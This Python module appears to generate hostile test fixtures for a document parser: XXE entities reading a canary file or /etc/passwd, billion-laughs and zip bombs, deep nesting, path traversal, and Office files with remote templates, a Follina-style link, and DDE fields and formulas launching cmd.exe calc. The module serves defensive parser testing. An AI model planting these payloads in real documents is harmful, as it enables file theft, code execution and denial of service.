"""XML that reads files, swells or never ends; office documents that run, fetch, embed or lie."""

from collections.abc import Iterator

from hostile.made import CANARY_PATH, WORDS, Entry, Hostile, honest_zip, raw_zip

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REFUSED = ("refused",)


def word(
    body: str, *, before: str = "", more: dict[str, bytes] | None = None, targets: str = ""
) -> bytes:
    """A Word document with this body; `before` stands in front of its root."""
    return honest_zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": f"{before}<w:document {W}><w:body>{body}</w:body></w:document>".encode(),
            "word/_rels/document.xml.rels": _targets(targets),
            **(more or {}),
        }
    )


def paragraph(words: str) -> str:
    """One paragraph."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def sheet(
    rows: str, *, before: str = "", more: dict[str, bytes] | None = None, book: str = ""
) -> bytes:
    """A spreadsheet with these rows on one sheet."""
    return honest_zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": _targets(
                f'<Relationship Id="rId1" Type="{KINDS}/officeDocument" Target="xl/workbook.xml"/>'
            ),
            "xl/workbook.xml": f'<workbook {S} {R}><sheets><sheet name="Deaths" sheetId="1" r:id="rId1"/>'
            f"{book}</sheets></workbook>".encode(),
            "xl/_rels/workbook.xml.rels": _targets(
                f'<Relationship Id="rId1" Type="{KINDS}/worksheet" Target="worksheets/sheet1.xml"/>'
            ),
            "xl/worksheets/sheet1.xml": f"{before}<worksheet {S}><sheetData>{rows}</sheetData></worksheet>".encode(),
            **(more or {}),
        }
    )


def cell(place: str, words: str) -> str:
    """One cell of words."""
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


def files() -> Iterator[Hostile]:
    """Both families."""
    yield from _xml()
    yield from _office()
    yield from _sheets()


def _targets(inside: str) -> bytes:
    return f'<Relationships xmlns="{RELATIONS}">{inside}</Relationships>'.encode()


def _laughs(times: int) -> str:
    rows = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, times))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{rows}]>'


def _xml() -> Iterator[Hostile]:
    says = paragraph(WORDS)
    tries = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{CANARY_PATH}">]>',
        "http": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://198.51.100.7/e">]>',
        "ftp": '<!DOCTYPE x [<!ENTITY e SYSTEM "ftp://198.51.100.7/e">]>',
        "php": '<!DOCTYPE x [<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{CANARY_PATH}"><!ENTITY e "v"> %p;]>',
        "dtd": '<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd"><!-- e -->',
        "dtd-file": '<!DOCTYPE x SYSTEM "file:///dev/zero">',
        "laughs": _laughs(10),
        "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>',
        "recursive": '<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>',
    }
    for name, before in tries.items():
        body = says + paragraph("&e;" * (2_000 if name == "quadratic" else 1))
        yield Hostile("xml", f"{name}.docx", word(body, before=before), REFUSED)
    yield Hostile(
        "xml",
        "laughs.xlsx",
        sheet(f'<row r="1">{cell("A1", "&a9;")}</row>', before=_laughs(10)),
        REFUSED,
    )
    yield Hostile("xml", "file.xlsx", sheet(cell("A1", "&e;"), before=tries["file"]), REFUSED)
    wide = f"{tries['file']}<w:document {W}><w:body>{says}</w:body></w:document>".encode("utf-16")
    yield Hostile("xml", "utf-16.docx", word("", more={"word/footnotes.xml": wide}), REFUSED)
    yield Hostile(
        "xml",
        "laughs-in-rels.docx",
        word(says, more={"word/_rels/x.xml.rels": _laughs(9).encode()}),
        REFUSED,
    )
    yield Hostile("xml", "deep.docx", word("<w:sdt>" * 100_000), REFUSED)
    yield Hostile("xml", "deep-closed.docx", word("<w:r>" * 50_000 + "</w:r>" * 50_000), REFUSED)
    yield Hostile(
        "xml",
        "attributes.docx",
        word("<w:p " + " ".join(f'a{n}="1"' for n in range(90_000)) + "/>" + says),
    )
    yield Hostile(
        "xml",
        "namespaces.docx",
        word("".join(f'<a{n}:b xmlns:a{n}="u{n}"/>' for n in range(20_000)) + says),
        ("ok",),
    )
    yield Hostile("xml", "long-word.docx", word(paragraph("a" * 11_000_000)))
    yield Hostile(
        "xml",
        "xinclude.docx",
        word(
            says
            + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{CANARY_PATH}" parse="text"/>'
        ),
        ("ok",),
    )
    yield Hostile(
        "xml",
        "stylesheet.docx",
        word(says, before=f'<?xml-stylesheet href="file://{CANARY_PATH}"?>'),
        ("ok",),
    )
    yield Hostile("xml", "unclosed.docx", word("<w:p><w:r>" + WORDS), REFUSED)
    yield Hostile("xml", "nul.docx", word(says + "\0"), REFUSED)
    yield Hostile("xml", "laughs.xml", f"{_laughs(10)}<x>&a9;</x>".encode(), ("ok",))


def _office() -> Iterator[Hostile]:
    says = paragraph(WORDS)
    remote = '<Relationship Id="r{n}" Type="{kind}" Target="{to}" TargetMode="External"/>'
    for name, kind, to in (
        ("remote-template", f"{KINDS}/attachedTemplate", "http://198.51.100.7/t.dotm"),
        ("remote-picture", f"{KINDS}/image", "http://198.51.100.7/pixel.png"),
        ("remote-object", f"{KINDS}/oleObject", "\\\\198.51.100.7\\share\\o.bin"),
        ("remote-frame", f"{KINDS}/frame", "file:///etc/passwd"),
        ("remote-subdocument", f"{KINDS}/subDocument", "http://198.51.100.7/s.docx"),
        (
            "follina",
            f"{KINDS}/oleObject",
            "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html",
        ),
    ):
        yield Hostile(
            "office", f"{name}.docx", word(says, targets=remote.format(n=1, kind=kind, to=to)), ("ok",)
        )
    field = "<w:p><w:r><w:instrText> {} </w:instrText></w:r></w:p>"
    for name, command in (
        ("dde", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe calc"),
        ("include-text", f'INCLUDETEXT "{CANARY_PATH}"'),
        ("include-picture", 'INCLUDEPICTURE "http://198.51.100.7/p.png"'),
        ("macro-button", "MACROBUTTON AutoOpen Click"),
    ):
        yield Hostile("office", f"{name}.docx", word(says + field.format(command)), ("ok",))
    parts = {
        "macros": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)},
        "embedded-program": {"word/embeddings/oleObject1.bin": b"MZ" + bytes(500)},
        "active-x": {"word/activeX/activeX1.bin": bytes(500)},
        "member-leads-out-of-word": {"word/media/a.png": b"\x89PNG"},
    }
    for name, more in parts.items():
        yield Hostile("office", f"{name}.docx", word(says, more=more), ("ok",))
    yield Hostile(
        "office",
        "html-inside.docx",
        word(says + '<w:altChunk r:id="a" xmlns:r="x"/>', more={"word/a.html": b"<script>"}),
        ("ok",),
    )
    yield Hostile(
        "office",
        "member-up.docx",
        raw_zip([Entry(b"word/document.xml", b"<a/>"), Entry(b"../../out", b"x")]),
        REFUSED,
    )
    yield Hostile(
        "office",
        "bomb.docx",
        raw_zip([Entry(b"word/document.xml", b"<w>" + b" " * (30 * 2**20))]),
        REFUSED,
    )
    yield Hostile("office", "bomb-below-ratio.docx", _below_ratio(), REFUSED)
    yield Hostile("office", "locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000), REFUSED)
    yield Hostile("office", "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000), REFUSED)
    yield Hostile("office", "old.rtf", b"{\\rtf1{\\object\\objautlink{\\*\\objdata 0105}}}", REFUSED)
    yield Hostile("office", "open.odt", _odt(), REFUSED)
    yield Hostile("office", "slides.pptx", honest_zip({"ppt/presentation.xml": b"<p/>"}), REFUSED)
    yield Hostile("office", "no-words.docx", word(""), ("empty",))
    yield Hostile(
        "office", "no-document.docx", honest_zip({"word/document.xml.bak": b"<a/>"}), ("empty",)
    )
    yield Hostile(
        "office",
        "runs.docx",
        word(
            "<w:p>"
            + "".join(f"<w:r><w:t>{n * 7919 % 10**6} </w:t></w:r>" for n in range(60_000))
            + "</w:p>"
        ),
        ("ok",),
    )
    yield Hostile(
        "office",
        "nested-tables.docx",
        word("<w:tbl><w:tr><w:tc>" * 60 + says + "</w:tc></w:tr></w:tbl>" * 60),
        ("ok",),
    )
    yield Hostile(
        "office",
        "hidden-words.docx",
        word(says + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p>"),
        ("ok",),
    )
    yield Hostile(
        "office",
        "deleted-words.docx",
        word(says + '<w:p><w:del w:author="x"><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>'),
        ("ok",),
    )
    yield Hostile(
        "office",
        "many-headers.docx",
        word(says, more={f"word/header{n}.xml": b"<a/>" for n in range(1_000)}),
        ("ok",),
    )


def _below_ratio() -> bytes:
    """Every member swells less than 200 times, all together past 512 MiB."""
    block = b"<a>" + bytes(range(32, 127)) * 200 + b"\0" * 40_000
    return raw_zip(
        [Entry(b"word/document.xml", b"<a/>"), *(Entry(b"%d" % n, block * 100) for n in range(90))]
    )


def _odt() -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return raw_zip([Entry(b"mimetype", kind, 0), Entry(b"content.xml", b"<a/>")])


def _sheets() -> Iterator[Hostile]:
    row = f'<row r="1">{cell("A1", "Name")}{cell("B1", "Place")}</row>'
    yield Hostile(
        "office",
        "formula-program.xlsx",
        sheet(
            row
            + '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://198.51.100.7","x")</f><v>x</v></c></row>'
        ),
        ("ok",),
    )
    yield Hostile(
        "office",
        "formula-dde.xlsx",
        sheet(row + '<row r="2"><c r="A2"><f>cmd|\' /c calc\'!A0</f><v>0</v></c></row>'),
        ("ok",),
    )
    yield Hostile(
        "office",
        "formula-loop.xlsx",
        sheet(row + '<row r="2"><c r="A2"><f>A2</f><v>1</v></c></row>'),
        ("ok",),
    )
    yield Hostile(
        "office",
        "web-query.xlsx",
        sheet(
            row,
            more={
                "xl/connections.xml": b'<connections><connection><webPr url="http://198.51.100.7"/></connection></connections>'
            },
        ),
        ("ok",),
    )
    yield Hostile(
        "office",
        "external-link.xlsx",
        sheet(
            row,
            more={
                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'
            },
        ),
        ("ok",),
    )
    yield Hostile("office", "macros.xlsm", sheet(row, more={"xl/vbaProject.bin": bytes(100)}), ("ok",))
    yield Hostile(
        "office",
        "huge-rectangle.xlsx",
        sheet(f'<row r="1">{cell("A1", "a")}</row><row r="1048576">{cell("XFD1048576", "z")}</row>'),
        REFUSED,
    )
    yield Hostile(
        "office",
        "strange-places.xlsx",
        sheet(f'<row r="1">{cell("ZZZ9999999", "a")}{cell("", "b")}{cell("A-1", "c")}</row>'),
    )
    yield Hostile(
        "office",
        "shared-string-lie.xlsx",
        sheet('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'),
    )
    yield Hostile(
        "office",
        "hidden-sheet.xlsx",
        sheet(row, book='<sheet name="b" sheetId="2" state="veryHidden" r:id="rId1"/>'),
        ("ok",),
    )
    yield Hostile("office", "no-cells.xlsx", sheet(""), ("empty",))
    yield Hostile(
        "office",
        "sheet-missing.xlsx",
        honest_zip(
            {
                "xl/workbook.xml": f'<workbook {S} {R}><sheets><sheet name="a" sheetId="1" r:id="rId9"/></sheets></workbook>'.encode()
            }
        ),
    )
    yield Hostile("office", "binary.xlsb", honest_zip({"xl/workbook.bin": b"x"}), REFUSED)
    yield Hostile(
        "office",
        "nan.xlsx",
        sheet(
            '<row r="1"><c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c><c r="C1" t="e"><v>#REF!</v></c></row>'
        ),
    )
    yield Hostile(
        "office", "date-beyond.xlsx", sheet('<row r="1"><c r="A1" t="d"><v>99999-99-99</v></c></row>')
    )
    yield Hostile(
        "office",
        "many-rows.xlsx",
        sheet("".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 150_000))),
        ("ok",),
    )
